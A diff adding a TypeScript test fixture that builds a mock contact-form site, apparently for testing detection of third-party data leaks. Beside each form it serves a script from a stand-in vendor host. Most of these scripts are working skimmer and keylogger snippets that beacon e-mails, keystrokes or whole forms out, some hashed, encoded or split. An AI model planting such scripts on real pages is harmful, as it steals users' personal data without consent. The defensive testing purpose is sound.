@@ -1,0 +1,53 @@
+import { respond } from '../../fixtures/replica/exchange.js';
+import type { Content, FieldSite } from '../e2e/field/field-site.js';
+
+/** What a third party's script does beside a form; `V` is its own address. */
+const scripts = {
+  blur: `addEventListener('focusout', e => e.target.type === 'email' && e.target.value && navigator.sendBeacon(V + 'b', e.target.value))`,
+  keys: `addEventListener('keydown', e => e.key.length === 1 && (new Image().src = V + 'k.gif?k=' + encodeURIComponent(e.key) + '&n=' + (window.count = (window.count || 0) + 1)))`,
+  'two-parts': `addEventListener('change', e => { if (e.target.type !== 'email') return; const v = e.target.value, at = v.length >> 1;
+    fetch(V + 'one', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ p: v.slice(0, at) }) });
+    fetch(V + 'two', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ p: v.slice(at) }) }); })`,
+  'submit-event': `addEventListener('submit', e => navigator.sendBeacon(V + 's', new URLSearchParams(new FormData(e.target))), true)`,
+  debounced: `addEventListener('input', e => { clearTimeout(e.target.timer); e.target.timer = setTimeout(() => fetch(V + 'd?v=' + encodeURIComponent(e.target.value), { mode: 'no-cors' }), 1500) })`,
+  base64: `addEventListener('change', e => new Image().src = V + 'i.gif?d=' + btoa(JSON.stringify({ [e.target.name]: e.target.value })))`,
+  sha256: `addEventListener('change', async e => { if (e.target.type !== 'email') return;
+    const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(e.target.value.trim().toLowerCase()));
+    fetch(V + 'h?em=' + Array.from(new Uint8Array(hash), b => b.toString(16).padStart(2, '0')).join(''), { mode: 'no-cors' }) })`,
+  pagehide: `addEventListener('pagehide', () => navigator.sendBeacon(V + 'p', document.querySelector('[type=email]').value))`,
+  abandoned: `let sent = false; addEventListener('submit', () => sent = true, true);
+    addEventListener('beforeunload', () => sent || navigator.sendBeacon(V + 'a', document.querySelector('[type=email]').value))`,
+  'by-frame': `addEventListener('submit', () => { const f = document.createElement('iframe'); f.hidden = true;
+    f.src = V + 'f?m=' + encodeURIComponent(document.querySelector('[type=email]').value); document.body.append(f) })`,
+  'page-view': `fetch(V + 'view?p=' + encodeURIComponent(location.pathname), { mode: 'no-cors' })`,
+  'counts-keys': `let n = 0; addEventListener('input', () => n += 1); addEventListener('pagehide', () => navigator.sendBeacon(V + 'c', JSON.stringify({ fields: 2, took: 'some', path: location.pathname })))`,
+  'own-host': `addEventListener('change', e => navigator.sendBeacon('/kept', e.target.value))`,
+  silent: `addEventListener('change', e => e.target.classList.add('touched'))`,
+} as const;
+
+/** What acts on the form of a page. */
+export type Actor = keyof typeof scripts;
+
+const host = 'www.every-form.test';
+const script = (source: string) => respond('text/javascript', source);
+
+export const contactForm = `<form method="post" action="/send"><p><label>Your e-mail <input type="email" name="email"></label></p>
+  <p><label>Message <textarea name="message"></textarea></label></p><button>Send</button></form>`;
+
+const page = (title: string, body: string): string =>
+  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title></head><body><main><h1>${title}</h1>${body}</main></body></html>`;
+
+/** A site of pages with equal forms; beside each stands a script of a third party of its own (`aNN.vendor.test`). */
+export function formsSite(pages: readonly (readonly [path: string, actor: Actor])[]): FieldSite {
+  const contents: Record<string, Content> = {
+    '/': page('Start', pages.map(([path]) => `<p><a href="${path}">${path}</a></p>`).join('')),
+    '/send': page('Thank you', '<p>We have it.</p>'),
+    '/kept': respond('text/plain', ''),
+  };
+  for (const [at, [path, actor]] of pages.entries()) {
+    const vendor = `//a${String(at).padStart(2, '0')}.vendor.test/`;
+    contents[path] = page(`Page ${at}`, `${contactForm}<script src="https:${vendor}t.js"></script>`);
+    contents[`${vendor}t.js`] = script(`const V = 'https:${vendor}';\n${scripts[actor]}`);
+  }
+  return { name: 'every-form', style: '', host, domain: 'every-form.test', contents, expected: {} };
+}
